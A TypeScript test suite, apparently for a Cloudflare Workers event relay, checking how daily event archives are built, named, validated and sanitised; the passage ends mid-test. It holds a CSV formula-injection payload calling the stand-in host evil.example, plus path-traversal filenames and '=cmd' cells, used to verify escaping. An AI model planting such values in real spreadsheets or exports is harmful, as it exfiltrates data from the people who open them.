import { createExecutionContext, createMessageBatch, createScheduledController, getQueueResult } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { parse } from "csv-parse/sync";
import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { runArchiveJob } from "../../src/archive/build";
import { CSV_DIALECT, CsvRows, MAX_COLUMNS, MAX_DEPTH, OVERFLOW_COLUMN } from "../../src/archive/csv";
import { PART_BYTES } from "../../src/archive/output";
import { addDays, instantOfLocalTime, localDate, spanPeriod } from "../../src/archive/periods";
import { requestArchive } from "../../src/archive/schedule";
import { TSV_DIALECT } from "../../src/archive/tsv";
import { getArchive } from "../../src/db/archives";
import { getSubscriber } from "../../src/db/subscribers";
import type { ArchiveMessage } from "../../src/domain/messages";
import entry from "../../src/index";
import { HOURLY_CRON, handleScheduled } from "../../src/jobs/cron";
import { sweepDue } from "../../src/pipeline/sweep";
import { api, eventually } from "../helpers/api";
import { sha256Hex, text } from "../helpers/archive";

const worker = entry as Required<Pick<ExportedHandler<Env>, "queue" | "scheduled">>;

interface Archive {
  id: string;
  status: string;
  events: number | null;
  bytes: number | null;
  sha256: string | null;
  period_start: string;
  period_end: string;
  error: string | null;
}

/** A source and a subscriber archiving everything it publishes (plus any extra subscriptions given). */
async function archiveTenant(
  options: {
    format?: string;
    timezone?: string;
    subscriptions?: Array<Record<string, unknown>>;
    archive?: Record<string, unknown>;
  } = {},
) {
  const source = await api("POST", "/v1/admin/sources", { name: "LMS" });
  const subscriber = await api("POST", "/v1/admin/subscribers", {
    name: "BI team",
    timezone: options.timezone ?? "UTC",
    archive: { schedule: "daily", format: options.format ?? "json", ...options.archive },
  });
  for (const subscription of options.subscriptions ?? [{ event_types: ["*"] }]) {
    const created = await api("POST", "/v1/admin/subscriptions", {
      subscriber_id: subscriber.body.id,
      source_id: source.body.id,
      archive: true,
      steps: [],
      ...subscription,
    });
    expect(created.status).toBe(201);
  }
  const publish = async (body: unknown) => {
    const res = await api("POST", "/v1/events", body, source.body.api_key);
    expect(res.status).toBe(202);
    const ids = res.body.ids as string[];
    // Routing is what records archive membership: wait for it, as the build itself would.
    await eventually(async () => {
      const row = await env.DB.prepare(
        `SELECT count(*) AS n FROM events WHERE routed_at IS NULL AND id IN (${ids.map(() => "?").join(", ")})`,
      )
        .bind(...ids)
        .first<{ n: number }>();
      return row?.n === 0;
    }, 30_000);
    return ids;
  };
  return { source: source.body, subscriber: subscriber.body, publish };
}

/** An env whose archive queue only records what is sent, so a test runs the jobs itself. */
function recordingEnv() {
  const sent: ArchiveMessage[] = [];
  const queue = {
    send: async (body: ArchiveMessage) => {
      sent.push(body);
    },
    sendBatch: async (messages: Array<{ body: ArchiveMessage }>) => {
      sent.push(...messages.map((message) => message.body));
    },
  };
  return { env: { ...env, ARCHIVE_QUEUE: queue } as unknown as Env, sent };
}

/** The hourly cron, as run tomorrow (local) a few minutes after `time`: the default archive.time, 02:00. */
function afterToday(timezone: string, time = "02:00", minutesAfter = 7) {
  const tomorrow = addDays(localDate(Date.now(), timezone), 1);
  return createScheduledController({
    cron: HOURLY_CRON,
    scheduledTime: instantOfLocalTime(tomorrow, time, timezone) + minutesAfter * 60_000,
  });
}

async function archivesOf(subscriberId: string): Promise<Archive[]> {
  return (await api("GET", `/v1/admin/archives?subscriber_id=${subscriberId}`)).body.data;
}

async function readyArchive(id: string): Promise<Archive> {
  return eventually(async () => {
    const archive = (await api("GET", `/v1/admin/archives/${id}`)).body as Archive;
    if (archive.status === "failed") throw new Error(`archive failed: ${archive.error}`);
    return archive.status === "ready" ? archive : null;
  }, 30_000);
}

async function zipOf(archiveId: string) {
  const row = await getArchive(env.DB, archiveId);
  const object = await env.BUCKET.get(row!.r2_key);
  expect(object).not.toBeNull();
  const bytes = new Uint8Array(await object!.arrayBuffer());
  return { bytes, files: unzipSync(bytes), key: row!.r2_key, object: object! };
}

function event(i: number, extra: Record<string, unknown> = {}) {
  return {
    type: i % 2 ? "course.completed" : "user.updated",
    id: `origin-${i}`,
    data: { n: i, title: `Course ${i}, "intro"\nline two`, who: "Zoë 日本", tags: ["a", "b"], ...extra },
  };
}

describe("scheduled archives", () => {
  it("the cron builds each format once the local day has closed, with the events received that day", async () => {
    for (const format of ["json", "ndjson", "csv", "files"]) {
      const t = await archiveTenant({ format, timezone: "America/New_York" });
      const ids = await t.publish(Array.from({ length: 5 }, (_, i) => event(i)));
      await worker.scheduled(afterToday("America/New_York"), env, createExecutionContext());
      const [listed] = await archivesOf(t.subscriber.id);
      expect(listed.period_start).toBe(localDate(Date.now(), "America/New_York"));
      const archive = await readyArchive(listed.id);
      expect(archive.events).toBe(5);
      const { bytes, files, object } = await zipOf(archive.id);
      expect(object.httpMetadata?.contentType).toBe("application/zip");
      expect(archive.bytes).toBe(bytes.length);
      expect(archive.sha256).toBe(await sha256Hex(bytes));
      const manifest = JSON.parse(text(files["manifest.json"]));
      expect(manifest).toMatchObject({
        subscriber_id: t.subscriber.id,
        period_start: archive.period_start,
        period_end: archive.period_end,
        timezone: "America/New_York",
        events: 5,
      });
      for (const file of manifest.files) expect(file.sha256).toBe(await sha256Hex(files[file.name]));
      const names = Object.keys(files).sort();
      if (format === "json") {
        expect(names).toEqual(["course.completed.json", "manifest.json", "user.updated.json"]);
        const completed = JSON.parse(text(files["course.completed.json"]));
        // In order of receipt, then id: one publish request shares a receipt time.
        expect(completed.map((e: { id: string }) => e.id)).toEqual([ids[1], ids[3]].sort());
        expect(completed).toContainEqual(
          expect.objectContaining({
            type: "course.completed",
            data: expect.objectContaining({ n: 1, who: "Zoë 日本" }),
          }),
        );
      } else if (format === "ndjson") {
        const lines = text(files["user.updated.ndjson"]).trimEnd().split("\n");
        expect(lines.map((line) => JSON.parse(line).id)).toEqual([ids[0], ids[2], ids[4]].sort());
      } else if (format === "csv") {
        const [header, ...rows] = parse(text(files["user.updated.csv"])) as string[][];
        expect(header).toEqual(expect.arrayContaining(["id", "type", "data.n", "data.title", "data.tags"]));
        expect(rows.map((row) => row[header.indexOf("data.title")]).sort()).toEqual([
          'Course 0, "intro"\nline two',
          'Course 2, "intro"\nline two',
          'Course 4, "intro"\nline two',
        ]);
        expect(rows[0][header.indexOf("data.who")]).toBe("Zoë 日本");
        expect(JSON.parse(rows[0][header.indexOf("data.tags")])).toEqual(["a", "b"]);
      } else {
        expect(names).toHaveLength(6);
        expect(JSON.parse(text(files[`course.completed/${ids[3]}.json`]))).toMatchObject({ id: ids[3] });
      }
    }
  });

  it("a cron run twice enqueues each period once, and a job run twice builds once", async () => {
    const t = await archiveTenant({ format: "ndjson" });
    await t.publish([event(1), event(2)]);
    const recorder = recordingEnv();
    const controller = afterToday("UTC");
    await handleScheduled(controller, recorder.env);
    await handleScheduled(controller, recorder.env);
    const archives = await archivesOf(t.subscriber.id);
    expect(archives).toHaveLength(1);
    expect(recorder.sent.filter((message) => message.archive_id === archives[0].id)).toHaveLength(1);

    const outcomes = await Promise.all([
      runArchiveJob(recorder.env, archives[0].id),
      runArchiveJob(recorder.env, archives[0].id),
    ]);
    expect(outcomes.sort()).toEqual(["ready", "skipped"]);
    expect(await runArchiveJob(recorder.env, archives[0].id)).toBe("skipped");
    const archive = (await api("GET", `/v1/admin/archives/${archives[0].id}`)).body as Archive;
    expect(archive).toMatchObject({ status: "ready", events: 2 });
  });

  it("archives only what passes the filter, and an event matched twice once", async () => {
    const t = await archiveTenant({
      subscriptions: [
        { event_types: ["*"], filter: "data.keep = true" },
        { event_types: ["course.completed"], filter: "data.keep = true" },
      ],
    });
    const ids = await t.publish([event(1, { keep: true }), event(2, { keep: false }), event(3, { keep: true })]);
    await worker.scheduled(afterToday("UTC"), env, createExecutionContext());
    const [listed] = await archivesOf(t.subscriber.id);
    const archive = await readyArchive(listed.id);
    expect(archive.events).toBe(2);
    const { files } = await zipOf(archive.id);
    expect(Object.keys(files).sort()).toEqual(["course.completed.json", "manifest.json"]);
    expect(JSON.parse(text(files["course.completed.json"])).map((e: { id: string }) => e.id)).toEqual(
      [ids[0], ids[2]].sort(),
    );
  });

  it("a big day goes up as an R2 multipart upload in equal parts, across checkpoints and jobs", async () => {
    const t = await archiveTenant({ format: "ndjson" });
    // About 24 KB of base64 noise per event, 18 KB once deflated: some 6.5 MB of zip, a 5 MiB part and the rest.
    const noisy = (i: number) => ({
      type: "noise",
      id: `noise-${i}`,
      data: { i, noise: btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(18_000)))) },
    });
    for (let batch = 0; batch < 9; batch++) {
      await t.publish(Array.from({ length: 40 }, (_, i) => noisy(batch * 40 + i)));
    }
    const recorder = recordingEnv();
    await handleScheduled(afterToday("UTC"), recorder.env);
    const [listed] = await archivesOf(t.subscriber.id);
    let jobs = 0;
    let sawUpload = false;
    for (;;) {
      jobs += 1;
      const outcome = await runArchiveJob(recorder.env, listed.id, { budgetMs: 0, pageSize: 25 });
      if (outcome === "ready") break;
      expect(outcome).toBe("continued");
      const row = await getArchive(env.DB, listed.id);
      expect(row).toMatchObject({ status: "building", lease_until: null });
      const checkpoint = row!.checkpoint as { target: { upload_id?: string } };
      if (checkpoint.target.upload_id) sawUpload = true;
      expect((await api("GET", `/v1/admin/archives/${listed.id}`)).body.progress.events).toBe(Math.min(360, jobs * 25));
    }
    expect(jobs).toBeGreaterThan(10);
    expect(sawUpload).toBe(true);
    const archive = (await api("GET", `/v1/admin/archives/${listed.id}`)).body as Archive;
    expect(archive).toMatchObject({ status: "ready", events: 360 });
    const { bytes, files, key } = await zipOf(archive.id);
    expect(bytes.length).toBeGreaterThan(PART_BYTES);
    expect(archive.sha256).toBe(await sha256Hex(bytes));
    const lines = text(files["noise.ndjson"]).trimEnd().split("\n");
    const written = lines.map((line) => JSON.parse(line).data.i as number).sort((a, b) => a - b);
    expect(written).toEqual(Array.from({ length: 360 }, (_, i) => i));
    // Scratch objects (carry, record chunks) are gone.
    expect((await env.BUCKET.list({ prefix: `${key}.tmp/` })).objects).toHaveLength(0);
  }, 120_000);
});

describe("archive.time and archive.filename", () => {
  it("the cron builds the day's archive only once archive.time has come the next day, local time", async () => {
    const t = await archiveTenant({ timezone: "Asia/Kolkata", format: "ndjson", archive: { time: "05:30" } });
    expect(t.subscriber.archive.time).toBe("05:30");
    await t.publish([event(1), event(2), event(3)]);
    // 05:07 and 05:29 tomorrow in Kolkata: the day has ended, but its time has not come.
    await worker.scheduled(afterToday("Asia/Kolkata", "05:00"), env, createExecutionContext());
    await worker.scheduled(afterToday("Asia/Kolkata", "05:29", 0), env, createExecutionContext());
    expect(await archivesOf(t.subscriber.id)).toEqual([]);
    await worker.scheduled(afterToday("Asia/Kolkata", "05:30"), env, createExecutionContext());
    const listed = await archivesOf(t.subscriber.id);
    expect(listed).toHaveLength(1);
    expect(listed[0].period_start).toBe(localDate(Date.now(), "Asia/Kolkata"));
    const archive = await readyArchive(listed[0].id);
    expect(archive.events).toBe(3);
  });

  it("names the zip's data files from the template, values made safe, the format's extension added", async () => {
    const t = await archiveTenant({
      format: "csv",
      archive: { filename: "{type}-{period_start}_{generated_at}" },
      subscriptions: [{ event_types: ["*"] }],
    });
    await t.publish([event(1), event(2), { type: "a/../b", id: "slash", data: { n: 9 } }]);
    const before = Date.now();
    await worker.scheduled(afterToday("UTC"), env, createExecutionContext());
    const [listed] = await archivesOf(t.subscriber.id);
    const archive = await readyArchive(listed.id);
    const { files } = await zipOf(archive.id);
    const day = archive.period_start;
    const names = Object.keys(files).sort();
    expect(names).toHaveLength(4);
    expect(names).toContain("manifest.json");
    const stamp = /_(\d{8}T\d{6}Z)\.csv$/.exec(names.find((name) => name.startsWith("user.updated"))!)![1];
    const generated = Date.parse(stamp.replace(/^(\d{4})(\d\d)(\d\d)T(\d\d)(\d\d)(\d\d)Z$/, "$1-$2-$3T$4:$5:$6Z"));
    expect(generated).toBeGreaterThanOrEqual(Math.floor(before / 1000) * 1000);
    expect(generated).toBeLessThanOrEqual(Date.now());
    expect(names).toEqual(
      expect.arrayContaining([
        `course.completed-${day}_${stamp}.csv`,
        `user.updated-${day}_${stamp}.csv`,
        `a%2F..%2Fb-${day}_${stamp}.csv`,
      ]),
    );
    expect(csvRecords(files[`a%2F..%2Fb-${day}_${stamp}.csv`])[0]).toMatchObject({
      id: expect.any(String),
      "data.n": "9",
    });
    const manifest = JSON.parse(text(files["manifest.json"]));
    expect(manifest.files.map((file: { name: string }) => file.name).sort()).toEqual(
      names.filter((name) => name !== "manifest.json"),
    );
  });

  it("a bad template or time is a 422 naming the field, on create and on PATCH", async () => {
    for (const [archive, path] of [
      [{ filename: "{type}_{day}.csv" }, "/archive/filename"],
      [{ filename: "../{type}" }, "/archive/filename"],
      [{ filename: "{period_start}.csv" }, "/archive/filename"],
      [{ filename: "" }, "/archive/filename"],
      [{ time: "25:00" }, "/archive/time"],
    ] as const) {
      const res = await api("POST", "/v1/admin/subscribers", { name: "x", archive: { format: "csv", ...archive } });
      expect(res.status, JSON.stringify(archive)).toBe(422);
      expect(res.body.errors.map((error: { path: string }) => error.path)).toEqual([path]);
    }
    // `files` ignores the template, so it need not name {type}; moving to a per-type format then needs it.
    const files = await api("POST", "/v1/admin/subscribers", {
      name: "files",
      archive: { format: "files", filename: "{period_start}" },
    });
    expect(files.status).toBe(201);
    const patched = await api("PATCH", `/v1/admin/subscribers/${files.body.id}`, { archive: { format: "csv" } });
    expect(patched.status).toBe(422);
    expect(patched.body.errors[0]).toMatchObject({
      path: "/archive/filename",
      message: expect.stringMatching(/\{type\}/),
    });
  });
});

/** The period's archive of a tenant, built by the cron as it runs after the local day, and its zip's files. */
async function builtToday(subscriberId: string) {
  await worker.scheduled(afterToday("UTC"), env, createExecutionContext());
  const [listed] = await archivesOf(subscriberId);
  const archive = await readyArchive(listed.id);
  const { files } = await zipOf(archive.id);
  return { archive, files, manifest: JSON.parse(text(files["manifest.json"])) };
}

const csvRecords = (bytes: Uint8Array) => parse(text(bytes), { columns: true }) as Array<Record<string, string>>;

describe("CSV archives of events a publisher shaped", () => {
  it("a deep and a wide event still build, the manifest naming the column the rest went into", async () => {
    const t = await archiveTenant({ format: "csv" });
    let deep: unknown = "bottom";
    for (let level = 0; level < 50; level++) deep = { level: deep };
    const wide = Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`field_${i}`, i]));
    await t.publish([
      { type: "hostile.deep", id: "deep-1", data: deep },
      { type: "hostile.wide", id: "wide-1", data: wide },
      event(1),
    ]);
    const { archive, files, manifest } = await builtToday(t.subscriber.id);
    expect(archive.events).toBe(3);
    const overflowOf = Object.fromEntries(
      manifest.files.map((file: { name: string; overflow_column: string | null }) => [file.name, file.overflow_column]),
    );
    expect(overflowOf).toEqual({
      "course.completed.csv": null,
      "hostile.deep.csv": OVERFLOW_COLUMN,
      "hostile.wide.csv": OVERFLOW_COLUMN,
    });

    const [header] = parse(text(files["hostile.wide.csv"]), { to_line: 1 }) as string[][];
    expect(header.length).toBeLessThanOrEqual(MAX_COLUMNS);
    const [wideRow] = csvRecords(files["hostile.wide.csv"]);
    // The columns and the overflow together hold every field, each once.
    const rebuilt = { ...JSON.parse(wideRow[OVERFLOW_COLUMN]).data };
    for (const column of header.filter((name) => name.startsWith("data."))) {
      expect(rebuilt).not.toHaveProperty(column.slice(5));
      rebuilt[column.slice(5)] = Number(wideRow[column]);
    }
    expect(rebuilt).toEqual(wide);

    const [deepHeader] = parse(text(files["hostile.deep.csv"]), { to_line: 1 }) as string[][];
    for (const column of deepHeader) expect(column.split(".").length).toBeLessThanOrEqual(MAX_DEPTH);
    const [deepRow] = csvRecords(files["hostile.deep.csv"]);
    expect(JSON.parse(deepRow[OVERFLOW_COLUMN])).toEqual({ data: deep });
    expect(deepRow.id).toBeTruthy();
  });

  it("a cell a spreadsheet would run is prefixed with ', unless the subscriber turns that off", async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const data = { formula, at: "@SUM(1+1)", minus: "-2+3", score: -3, plain: "ok" };
    for (const escaped of [true, false]) {
      const t = await archiveTenant({ format: "csv", archive: escaped ? {} : { csv_escape_formulas: false } });
      expect(t.subscriber.archive.csv_escape_formulas).toBe(escaped);
      await t.publish([{ type: "crm.note", id: "note-1", data }]);
      const { files, manifest } = await builtToday(t.subscriber.id);
      expect(manifest.csv_escape_formulas).toBe(escaped);
      const [row] = csvRecords(files["crm.note.csv"]);
      expect(row).toMatchObject(
        escaped
          ? { "data.formula": `'${formula}`, "data.at": "'@SUM(1+1)", "data.minus": "'-2+3" }
          : { "data.formula": formula, "data.at": "@SUM(1+1)", "data.minus": "-2+3" },
      );
      expect(row).toMatchObject({ "data.score": "-3", "data.plain": "ok" });
    }
  });
});

/** A TSV file as the UBX toolkit's importers read it: lines on \n, fields on tab, then \\ \t \n \r unescaped. */
function tsvRecords(bytes: Uint8Array) {
  const escapes: Record<string, string> = { t: "\t", n: "\n", r: "\r", "\\": "\\" };
  const unescapeField = (field: string) => field.replace(/\\(.)/g, (_, next: string) => escapes[next]);
  const [header, ...rows] = text(bytes)
    .replace(/\n$/, "")
    .split("\n")
    .map((line) => line.split("\t").map(unescapeField));
  return { header, rows: rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]]))) };
}

describe("TSV archives", () => {
  it("builds {type}.tsv for a subscriber: the CSV header, rows tab-separated, tabs and newlines escaped", async () => {
    const t = await archiveTenant({ format: "tsv" });
    // A UBX-style event (code, channel, identifiers, attributes), with a note typed across a tab and two lines.
    const note = "Called back\tre: renewal\r\nsecond line \\ 📞 שלום";
    await t.publish([
      {
        type: "ubx.interaction",
        id: "ubx-1",
        data: {
          code: "ibmcontactCallCompleted",
          channel: "phone",
          identifiers: [{ name: "email", value: "ana@example.com" }],
          attributes: { note, duration: 95, opted_in: false, agent: null, formula: "=1+1" },
        },
      },
      event(2),
    ]);
    const { archive, files, manifest } = await builtToday(t.subscriber.id);
    expect(archive.events).toBe(2);
    expect(manifest).toMatchObject({ format: "tsv", csv_escape_formulas: true });
    expect(manifest.files.map((file: { name: string }) => file.name).sort()).toEqual([
      "ubx.interaction.tsv",
      "user.updated.tsv",
    ]);
    const raw = text(files["ubx.interaction.tsv"]);
    expect(raw.split("\n")).toHaveLength(3);
    expect(raw).not.toContain("\r");
    const { header, rows } = tsvRecords(files["ubx.interaction.tsv"]);
    expect(header).toEqual(
      expect.arrayContaining(["id", "type", "time", "data.code", "data.identifiers", "data.attributes.note"]),
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      "data.code": "ibmcontactCallCompleted",
      "data.attributes.note": note,
      "data.attributes.duration": "95",
      "data.attributes.opted_in": "false",
      "data.attributes.agent": "",
      "data.attributes.formula": "'=1+1",
    });
    expect(JSON.parse(rows[0]["data.identifiers"])).toEqual([{ name: "email", value: "ana@example.com" }]);
    const users = tsvRecords(files["user.updated.tsv"]);
    expect(users.rows.map((row) => row["data.title"])).toEqual(['Course 2, "intro"\nline two']);
    expect(users.rows[0]["data.who"]).toBe("Zoë 日本");
  });
});

describe("rows kept at route time", () => {
  /** The archived events of one type as stored, in the file's order. */
  async function storedRows(subscriberId: string, type: string) {
    const { results } = await env.DB.prepare(
      `SELECT e.body, a.row_text, a.row_format FROM archive_items a JOIN events e ON e.id = a.event_id
       WHERE a.subscriber_id = ? AND a.type = ? ORDER BY a.received_at, a.event_id`,
    )
      .bind(subscriberId, type)
      .all<{ body: string; row_text: string | null; row_format: string | null }>();
    return results;
  }

  /** The file as rows laid out from each event's parsed JSON under the file's own header: what a build always wrote. */
  function fromParsedEvents(file: string, bodies: string[], options: ConstructorParameters<typeof CsvRows>[1]) {
    const dialect = options?.dialect ?? CSV_DIALECT;
    const columns = file.slice(0, file.indexOf(dialect.lineEnd)).split(dialect.separator);
    const rows = new CsvRows(columns, options);
    return rows.header() + bodies.map((body) => rows.row(JSON.parse(body))).join("");
  }

  const published = [
    event(1),
    event(3, { extra: "=cmd" }),
    // Its shape is neither the file's columns nor their start: read from its JSON.
    { type: "course.completed", id: "reordered", data: { who: "Ana, 日本", n: -7 } },
    // A dotted key: never kept.
    { type: "course.completed", id: "dotted", data: { "a.b": "x" } },
  ];

  it("are kept for a CSV subscriber's items and build the same bytes as reading every event", async () => {
    const t = await archiveTenant({ format: "csv" });
    await t.publish(published);
    const stored = await storedRows(t.subscriber.id, "course.completed");
    expect(stored).toHaveLength(4);
    expect(stored.filter((row) => row.row_text !== null)).toHaveLength(3);
    for (const row of stored.filter((row) => row.row_text !== null)) expect(row.row_format).toBe("csv");
    const { files } = await builtToday(t.subscriber.id);
    const file = text(files["course.completed.csv"]);
    expect(file).toBe(
      fromParsedEvents(
        file,
        stored.map((row) => row.body),
        { dialect: CSV_DIALECT },
      ),
    );
    expect(csvRecords(files["course.completed.csv"]).map((row) => row["data.extra"] ?? "")).toContain("'=cmd");
  });

  it("written for settings the subscriber has changed since are not used", async () => {
    const changes: Array<[Record<string, unknown>, ConstructorParameters<typeof CsvRows>[1], string]> = [
      [{ format: "tsv" }, { dialect: TSV_DIALECT }, "course.completed.tsv"],
      [{ format: "csv", csv_escape_formulas: false }, { escapeFormulas: false }, "course.completed.csv"],
    ];
    for (const [archive, options, name] of changes) {
      const t = await archiveTenant({ format: "csv" });
      await t.publish(published);
      const patched = await api("PATCH", `/v1/admin/subscribers/${t.subscriber.id}`, { archive });
      expect(patched.status).toBe(200);
      const stored = await storedRows(t.subscriber.id, "course.completed");
      expect(stored.map((row) => row.row_format)).toContain("csv");
      const { files } = await builtToday(t.subscriber.id);
      const file = text(files[name]);
      expect(file).toBe(
        fromParsedEvents(
          file,
          stored.map((row) => row.body),
          options,
        ),
      );
    }
  });

  it("are not kept for a JSON subscriber", async () => {
    const t = await archiveTenant({ format: "json" });
    await t.publish([event(1)]);
    const stored = await storedRows(t.subscriber.id, "course.completed");
    expect(stored.map((row) => row.row_text)).toEqual([null]);
  });
});

describe("an archive build waits for routing", () => {
  /** An event stored but not routed yet, as ingest leaves it until the route consumer gets to it. */
  async function unroutedEvent(sourceId: string) {
    const id = `evt_unrouted_${crypto.randomUUID().replace(/-/g, "")}`;
    const now = Date.now();
    const body = { specversion: "1.0", id, source: "/test", type: "waiting.event", time: new Date(now).toISOString() };
    await env.DB.prepare(
      `INSERT INTO events (id, source_id, external_id, type, time, received_at, body) VALUES (?, ?, ?, ?, ?, ?, ?)`,
    )
      .bind(id, sourceId, id, body.type, body.time, now, JSON.stringify(body))
      .run();
    return id;
  }

  it("of its own subscriber's archived sources only, not of every source in the relay", async () => {
    const mine = await archiveTenant();
    const other = await api("POST", "/v1/admin/sources", { name: "Someone else's CRM" });
    const waiting = await archiveTenant();
    const unrouted = [await unroutedEvent(other.body.id), await unroutedEvent(waiting.source.id)];
    try {
      const recorder = recordingEnv();
      await handleScheduled(afterToday("UTC"), recorder.env);
      const [ours] = await archivesOf(mine.subscriber.id);
      const [theirs] = await archivesOf(waiting.subscriber.id);
      // Another source's backlog is not ours to wait for…
      expect(await runArchiveJob(recorder.env, ours.id)).toBe("ready");
      // …but an unrouted event of a source we archive is.
      expect(await runArchiveJob(recorder.env, theirs.id)).toBe("waiting");
      expect((await getArchive(env.DB, theirs.id))?.status).toBe("pending");
    } finally {
      await env.DB.prepare(`UPDATE events SET routed_at = ? WHERE id IN (?, ?)`)
        .bind(Date.now(), ...unrouted)
        .run();
    }
  });
});

describe("POST /v1/admin/archives", () => {
  it("builds a closed period now; an empty period is a zip with the manifest alone", async () => {
    const t = await archiveTenant({ format: "csv", timezone: "Asia/Kolkata" });
    const day = addDays(localDate(Date.now(), "Asia/Kolkata"), -3);
    const body = { subscriber_id: t.subscriber.id, period_start: day, period_end: day };
    const created = await api("POST", "/v1/admin/archives", body);
    expect(created.status).toBe(202);
    expect(created.body).toMatchObject({ status: "pending", period_start: day, timezone: "Asia/Kolkata" });
    expect(created.body.id).toMatch(/^arc_/);
    const archive = await readyArchive(created.body.id);
    expect(archive.events).toBe(0);
    const { files } = await zipOf(archive.id);
    expect(Object.keys(files)).toEqual(["manifest.json"]);
    expect(JSON.parse(text(files["manifest.json"]))).toMatchObject({ events: 0, files: [], period_start: day });

    // The same period asked for again is the same archive, not a second build.
    const again = await api("POST", "/v1/admin/archives", body);
    expect(again.status).toBe(202);
    expect(again.body).toMatchObject({ id: created.body.id, status: "ready" });
    expect((await archivesOf(t.subscriber.id)).filter((a) => a.period_start === day)).toHaveLength(1);
  });

  it("exports a period still running as a partial archive; the full one is still built when due, both listed", async () => {
    const t = await archiveTenant({ format: "ndjson" });
    const today = localDate(Date.now(), "UTC");
    const early = await t.publish([event(1), event(2)]);
    const before = Date.now();
    const first = await api("POST", "/v1/admin/archives", {
      subscriber_id: t.subscriber.id,
      period_start: today,
      period_end: today,
    });
    expect(first.status).toBe(202);
    expect(first.body).toMatchObject({ partial: true, period_start: today, period_end: today });
    const cut = Date.parse(first.body.to);
    expect(cut).toBeGreaterThanOrEqual(before);
    expect(cut).toBeLessThanOrEqual(Date.now());
    expect(cut).toBeLessThan(Date.parse(`${addDays(today, 1)}T00:00:00Z`));
    const partial = await readyArchive(first.body.id);
    expect(partial.events).toBe(2);
    const partialZip = await zipOf(partial.id);
    expect(partialZip.key).toMatch(new RegExp(`_partial-${cut}_${partial.id}\\.zip$`));
    const inPartial = text(partialZip.files["user.updated.ndjson"] ?? new Uint8Array())
      .concat(text(partialZip.files["course.completed.ndjson"] ?? new Uint8Array()))
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line).id)
      .sort();
    expect(inPartial).toEqual([...early].sort());

    // Asked again: another export of its own, never the first one answered again.
    const second = await api("POST", "/v1/admin/archives", {
      subscriber_id: t.subscriber.id,
      period_start: today,
      period_end: today,
    });
    expect(second.status).toBe(202);
    expect(second.body.id).not.toBe(first.body.id);
    expect(second.body.partial).toBe(true);
    await readyArchive(second.body.id);

    const late = await t.publish([event(3)]);
    await worker.scheduled(afterToday("UTC"), env, createExecutionContext());
    const listed = await archivesOf(t.subscriber.id);
    expect(listed).toHaveLength(3);
    const full = listed.find((archive) => !(archive as unknown as { partial: boolean }).partial)!;
    const built = (await readyArchive(full.id)) as Archive & { partial: boolean; to: string };
    expect(built).toMatchObject({ partial: false, period_start: today, events: 3 });
    expect(built.to).toBe(`${addDays(today, 1)}T00:00:00.000Z`);
    const fullZip = await zipOf(full.id);
    expect(fullZip.key).toBe(`archives/${t.subscriber.id}/${today}_${today}.zip`);
    expect(text(fullZip.files["course.completed.ndjson"])).toContain(late[0]);
    // The partial export is untouched by the full build.
    expect((await zipOf(partial.id)).bytes).toEqual(partialZip.bytes);
    // The pull API offers the full archive of the period only: one file per period name.
    const pulled = await api("GET", "/v1/eventfiles", undefined, t.subscriber.api_key);
    expect(pulled.body.data.map((file: { id: string }) => file.id)).toEqual([full.id]);
  });

  it("names the field of a bad request", async () => {
    const t = await archiveTenant();
    const tomorrow = addDays(localDate(Date.now(), "UTC"), 1);
    const cases: Array<[Record<string, unknown>, string]> = [
      [{ subscriber_id: t.subscriber.id, period_start: "2026-02-30", period_end: "2026-03-01" }, "/period_start"],
      [{ subscriber_id: t.subscriber.id, period_start: "2026-13-45", period_end: "2026-03-01" }, "/period_start"],
      [{ subscriber_id: t.subscriber.id, period_start: "2026-03-01", period_end: "2026-13-45" }, "/period_end"],
      [{ subscriber_id: t.subscriber.id, period_start: "2026-00-10", period_end: "2026-03-01" }, "/period_start"],
      [{ subscriber_id: t.subscriber.id, period_start: "1969-12-31", period_end: "1969-12-31" }, "/period_start"],
      [{ subscriber_id: t.subscriber.id, period_start: "2026-03-02", period_end: "2026-03-01" }, "/period_end"],
      [{ subscriber_id: t.subscriber.id, period_start: tomorrow, period_end: tomorrow }, "/period_start"],
      [
        { subscriber_id: "sub_00000000000000000000000000", period_start: "2026-03-01", period_end: "2026-03-01" },
        "/subscriber_id",
      ],
      [{ subscriber_id: t.subscriber.id, period_start: "2024-01-01", period_end: "2026-01-01" }, "/period_end"],
    ];
    for (const [input, path] of cases) {
      const res = await api("POST", "/v1/admin/archives", input);
      expect(res.status, JSON.stringify(input)).toBe(422);
      expect(res.body.errors[0].path).toBe(path);
    }
    expect((await archivesOf(t.subscriber.id)).length).toBe(0);
  });

  it("an event file named after an impossible date is not found, not an error", async () => {
    const t = await archiveTenant();
    for (const name of ["2026-13-45.zip", "2026-02-30.zip", "2026-01-01_2026-99-99.zip"]) {
      const res = await api("GET", `/v1/eventfiles/${name}`, undefined, t.subscriber.api_key);
      expect(res.status, name).toBe(404);
    }
  });

  it("is documented in /openapi.json", async () => {
    const doc = await api("GET", "/openapi.json");
    expect(Object.keys(doc.body.paths)).toEqual(
      expect.arrayContaining(["/v1/admin/archives", "/v1/admin/archives/{id}"]),
    );
  });

  it("lists archives by subscriber, paged, and 404s an unknown id", async () => {
    const t = await archiveTenant();
    const today = localDate(Date.now(), "UTC");
    for (const back of [5, 6, 7]) {
      const day = addDays(today, -back);
      await api("POST", "/v1/admin/archives", { subscriber_id: t.subscriber.id, period_start: day, period_end: day });
    }
    const first = await api("GET", `/v1/admin/archives?subscriber_id=${t.subscriber.id}&limit=2`);
    expect(first.body.data).toHaveLength(2);
    const second = await api(
      "GET",
      `/v1/admin/archives?subscriber_id=${t.subscriber.id}&limit=2&cursor=${first.body.next_cursor}`,
    );
    expect(second.body.data).toHaveLength(1);
    expect(second.body.next_cursor).toBeNull();
    const missing = await api("GET", "/v1/admin/archives/arc_00000000000000000000000000");
    expect(missing.status).toBe(404);
  });
});

describe("archive recovery", () => {
  it("the sweeper re-enqueues a build whose job was lost", async () => {
    const t = await archiveTenant();
    const recorder = recordingEnv();
    await handleScheduled(afterToday("UTC"), recorder.env);
    const [archive] = await archivesOf(t.subscriber.id);
